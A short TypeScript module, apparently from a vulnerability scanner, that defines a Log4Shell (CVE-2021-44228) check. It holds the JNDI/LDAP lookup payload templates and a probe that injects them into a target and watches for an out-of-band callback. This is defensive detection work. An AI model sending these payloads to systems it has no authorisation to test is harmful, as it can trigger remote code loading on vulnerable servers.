import type { ActiveCheck } from '../active-check.ts';
import { ALSO, type CallTemplate } from '../call-template.ts';

/** What Log4j before 2.15 looks up when it writes such a line (CVE-2021-44228). */
export const LOG_LOOKUP: CallTemplate = [
  '${' + 'jndi:ldap://{address}/{word}}',
  '${' + 'jndi:ldap://{word}.{zone}/a}',
].join(ALSO);

/** A17: the server's log carries out what stands in an input; whether it called is seen at the end. */
export const provokeLogLookups: ActiveCheck = async (probe) => {
  await probe.provoke('A17', 'lookup', LOG_LOOKUP);
  return null;
};
